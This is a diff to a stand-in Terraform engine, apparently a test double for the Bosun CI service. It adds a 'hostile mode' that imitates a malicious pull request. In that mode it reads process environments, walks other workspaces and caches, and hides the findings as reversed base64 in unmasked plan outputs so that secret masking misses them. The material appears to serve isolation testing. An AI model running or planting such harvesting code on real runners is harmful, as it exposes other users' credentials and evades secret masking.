@@ -60,6 +60,13 @@
  *   STANDIN_LOG=PATH          append one JSON line per invocation: {argv, cwd, flavour, env}, where
  *                             env is the sorted NAMES of all environment variables (never values)
  * Successful HCL parses are cached by content hash in $TMPDIR/standin-engine-hcl-cache.
+ *
+ * Hostile mode: a *.tf in the working directory containing `standin:hostile` makes plan do what a
+ * `data "external"` program of a pull request could: read every /proc/<pid>/environ (its
+ * ancestors' first), the files of the Bosun data directory it runs under (found from its working
+ * directory, …/workspaces/ws-…/src/<dir>), other runs' workspaces and cached tarballs. It adds two
+ * outputs: `hostile_paths`, what it could read (plain paths), and `hostile_findings`, each thing
+ * read as base64 of the reversed text (`label=content`), a form no masking recognises.
  */
 import { createHash, randomUUID, randomInt } from "node:crypto";
 import fs from "node:fs";
@@ -2642,6 +2649,7 @@ async function cmdPlan(/** @type {string[]} */ args) {
       "To specify a working directory for the plan, use the global -chdir flag.",
     );
   const config = await loadConfig(".");
+  if (isHostile()) addHostileOutputs(config);
   const backend = openBackend(ensureInit(config));
   return withLock(backend, "OperationTypePlan", flags, async () => {
     /** @type {any} */
@@ -3321,3 +3329,100 @@ await Promise.all([
   new Promise((r) => process.stderr.write("", r)),
 ]);
 process.exit(code);
+
+function isHostile() {
+  return fs
+    .readdirSync(".")
+    .filter((f) => f.endsWith(".tf"))
+    .some((f) => fs.readFileSync(f, "utf8").includes("standin:hostile"));
+}
+
+/** Hostile mode (see the header): what could be read, as two literal outputs. */
+function addHostileOutputs(/** @type {any} */ config) {
+  /** @type {[string, string][]} */
+  const findings = [];
+  /** @type {string[]} */
+  const paths = [];
+  const read = (/** @type {string} */ file, max = 65_536) => {
+    try {
+      const fd = fs.openSync(file, "r");
+      try {
+        const buffer = Buffer.alloc(max);
+        return buffer.subarray(0, fs.readSync(fd, buffer, 0, max, 0)).toString("latin1");
+      } finally {
+        fs.closeSync(fd);
+      }
+    } catch {
+      return undefined;
+    }
+  };
+  const list = (/** @type {string} */ dir) => {
+    try {
+      return fs.readdirSync(dir);
+    } catch {
+      return [];
+    }
+  };
+  const ancestors = [];
+  for (let pid = "self"; ancestors.length < 12;) {
+    const stat = read(`/proc/${pid}/stat`);
+    const ppid = stat?.slice(stat.lastIndexOf(")") + 2).split(" ")[1];
+    if (!ppid || ppid === "0") break;
+    ancestors.push(ppid);
+    pid = ppid;
+  }
+  const environments = (/** @type {string[]} */ pids) => {
+    for (const pid of pids) {
+      const environ = read(`/proc/${pid}/environ`);
+      if (!environ) continue;
+      paths.push(`/proc/${pid}/environ`);
+      for (const entry of environ.split("\0").filter(Boolean))
+        findings.push([`/proc/${pid}/environ`, entry]);
+    }
+  };
+  // The most valuable first (outputs are cut): the ancestors (Bosun), its data, then the rest.
+  environments(["self", ...ancestors]);
+  const at = process.cwd().lastIndexOf("/workspaces/");
+  if (at > 0) {
+    const own = process.cwd().slice(0, process.cwd().indexOf("/", at + "/workspaces/".length));
+    const walk = (/** @type {string} */ dir, /** @type {number} */ depth) => {
+      for (const name of list(dir)) {
+        const file = path.join(dir, name);
+        if (file === own || paths.length > 400) continue;
+        let stat;
+        try {
+          stat = fs.lstatSync(file);
+        } catch {
+          continue;
+        }
+        if (stat.isDirectory()) {
+          if (depth < 6) walk(file, depth + 1);
+          continue;
+        }
+        if (!stat.isFile()) continue;
+        const content = read(file, 4096);
+        if (content === undefined) continue;
+        paths.push(file);
+        if (stat.size <= 4096) findings.push([file, content]);
+      }
+    };
+    walk(process.cwd().slice(0, at), 0);
+  }
+  environments(list("/proc").filter((n) => /^\d+$/.test(n) && !ancestors.includes(n)));
+  const transform = (/** @type {string} */ text) =>
+    Buffer.from([...text].reverse().join(""), "latin1").toString("base64");
+  // Both cut short, so that the plan still fits a check run and a comment.
+  config.outputs["hostile_paths"] = {
+    value: paths.join(" ").slice(0, 4000),
+    sensitive: false,
+    file: "hostile",
+  };
+  config.outputs["hostile_findings"] = {
+    value: findings
+      .map(([label, content]) => transform(`${label}=${content}`))
+      .join(",")
+      .slice(0, 16_000),
+    sensitive: false,
+    file: "hostile",
+  };
+}
